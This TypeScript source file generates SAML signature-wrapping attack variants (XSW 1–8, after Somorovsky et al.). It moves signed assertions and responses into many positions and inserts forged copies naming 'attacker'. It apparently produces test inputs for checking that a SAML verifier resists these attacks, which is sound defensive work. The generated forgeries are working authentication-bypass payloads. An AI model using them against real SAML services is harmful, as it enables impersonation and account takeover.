import { XMLSerializer } from '@xmldom/xmldom'
import { allElements, childrenNamed, namespaces, parseXml } from '../saml/xml.ts'

/** A response in which something stands in the place of what was signed. */
export type Wrapped = { name: string; xml: string }

type Parts = { document: Document; response: Element; assertion: Element }
type Place = { name: string; put: (parts: Parts, node: Node) => boolean }

export const attacker = 'attacker'

/**
 * Signature wrapping (Somorovsky et al., “On Breaking SAML”, XSW 1 to 8) at every place of a response: what was signed is moved to that place and a forged copy put
 * where it was, with or without its signature and its id; or the forged copy is added there.
 */
export function wrappings(xml: string): Wrapped[] {
  return [...places.flatMap((place) => assertionsAt(xml, place)), ...responsesAround(xml)]
}

const variants = [
  { name: 'signed assertion moved, forged copy without signature in its place', isMoved: true, hasSignature: false, hasSameId: false },
  { name: 'signed assertion moved, forged copy with the signature in its place', isMoved: true, hasSignature: true, hasSameId: false },
  { name: 'signed assertion moved, forged copy with signature and id in its place', isMoved: true, hasSignature: true, hasSameId: true },
  { name: 'forged assertion added', isMoved: false, hasSignature: false, hasSameId: false },
  { name: 'forged assertion with the same id added', isMoved: false, hasSignature: false, hasSameId: true },
]

function assertionsAt(xml: string, place: Place): Wrapped[] {
  return variants.flatMap(({ name, isMoved, hasSignature, hasSameId }) => {
    const parts = partsOf(xml)
    if (!parts) return []
    const { assertion } = parts
    const forged = forge(assertion, { hasSignature, hasSameId })
    if (!isMoved) return place.put(parts, forged) ? [{ name: `${name}: ${place.name}`, xml: write(parts.document) }] : []
    const original = assertion.cloneNode(true) as Element
    if (hasSignature) for (const signature of childrenNamed(original, 'signature', 'Signature')) original.removeChild(signature)
    assertion.parentNode?.replaceChild(forged, assertion)
    const isPut = place.put({ ...parts, assertion: forged }, original)
    return isPut ? [{ name: `${name}: ${place.name}`, xml: write(parts.document) }] : []
  })
}

/** A forged response around the one that was signed (XSW 1 and 2). */
function responsesAround(xml: string): Wrapped[] {
  return responsePlaces.flatMap(({ name, put }) => {
    const parts = partsOf(xml)
    if (!parts) return []
    const { document, response } = parts
    const original = response.cloneNode(true) as Element
    for (const signature of childrenNamed(original, 'signature', 'Signature')) original.removeChild(signature)
    response.setAttribute('ID', '_forged_response')
    const forgedParts = { document, response, assertion: parts.assertion }
    rename(parts.assertion)
    return put(forgedParts, original) ? [{ name: `signed response inside of a forged one: ${name}`, xml: write(document) }] : []
  })
}

function forge(assertion: Element, { hasSignature, hasSameId }: { hasSignature: boolean; hasSameId: boolean }): Element {
  const forged = assertion.cloneNode(true) as Element
  if (!hasSameId) forged.setAttribute('ID', '_forged_assertion')
  if (!hasSignature) for (const signature of childrenNamed(forged, 'signature', 'Signature')) forged.removeChild(signature)
  rename(forged)
  return forged
}

/** Names the attacker in place of the person. */
function rename(assertion: Element): void {
  for (const element of allElements(assertion)) if (element.localName === 'NameID') element.textContent = attacker
}

function partsOf(xml: string): Parts | null {
  const document = parseXml(xml)
  const response = document.documentElement
  const [assertion] = childrenNamed(response, 'assertion', 'Assertion')
  return assertion ? { document, response, assertion } : null
}

const write = (document: Document): string => new XMLSerializer().serializeToString(document)

const append = (parent: Element | undefined | null, node: Node): boolean => Boolean(parent?.appendChild(node))
const prepend = (parent: Element | undefined | null, node: Node): boolean => Boolean(parent?.insertBefore(node, parent.firstChild))
const below = (element: Element | undefined | null, name: string): Element | undefined =>
  element ? allElements(element).find(({ localName }) => localName === name) : undefined
const ownSignature = (element: Element): Element | undefined => childrenNamed(element, 'signature', 'Signature')[0]

/** Puts a node into a new element of that name below another. */
function within({ document }: Parts, parent: Element | undefined, name: string, node: Node): boolean {
  if (!parent) return false
  const [prefix = ''] = name.split(':')
  const namespace = { samlp: namespaces.protocol, saml: namespaces.assertion, ds: namespaces.signature }[prefix] ?? null
  const element = document.createElementNS(namespace, name)
  element.appendChild(node)
  return append(parent, element)
}

const responsePlaces: Place[] = [
  { name: 'in its signature', put: ({ response }, node) => append(ownSignature(response), node) },
  { name: 'in an object of its signature', put: (parts, node) => within(parts, ownSignature(parts.response), 'ds:Object', node) },
  { name: 'first in it', put: ({ response }, node) => prepend(response, node) },
  { name: 'last in it', put: ({ response }, node) => append(response, node) },
  { name: 'in its extensions', put: (parts, node) => within(parts, parts.response, 'samlp:Extensions', node) },
  { name: 'in its status', put: ({ response }, node) => append(below(response, 'Status'), node) },
]

const places: Place[] = [
  ...responsePlaces.map(({ name, put }) => ({ name: name.replace('its ', 'the response’s ').replace(/ it$/, ' the response'), put })),
  { name: 'before the assertion', put: ({ response, assertion }, node) => Boolean(response.insertBefore(node, assertion)) },
  { name: 'in the response’s issuer', put: ({ response }, node) => append(childrenNamed(response, 'assertion', 'Issuer')[0], node) },
  {
    name: 'in the details of the status',
    put: (parts, node) => within(parts, below(parts.response, 'Status'), 'samlp:StatusDetail', node),
  },
  { name: 'first in the assertion', put: ({ assertion }, node) => prepend(assertion, node) },
  { name: 'last in the assertion', put: ({ assertion }, node) => append(assertion, node) },
  { name: 'in the assertion’s advice', put: (parts, node) => within(parts, parts.assertion, 'saml:Advice', node) },
  { name: 'in the subject', put: ({ assertion }, node) => append(below(assertion, 'Subject'), node) },
  { name: 'in the confirmation', put: ({ assertion }, node) => append(below(assertion, 'SubjectConfirmationData'), node) },
  { name: 'in the conditions', put: ({ assertion }, node) => append(below(assertion, 'Conditions'), node) },
  { name: 'in the assertion’s signature', put: ({ assertion }, node) => append(ownSignature(assertion), node) },
  {
    name: 'in an object of the assertion’s signature',
    put: (parts, node) => within(parts, ownSignature(parts.assertion), 'ds:Object', node),
  },
  { name: 'in what the signature says of its key', put: ({ response }, node) => append(below(response, 'KeyInfo'), node) },
]
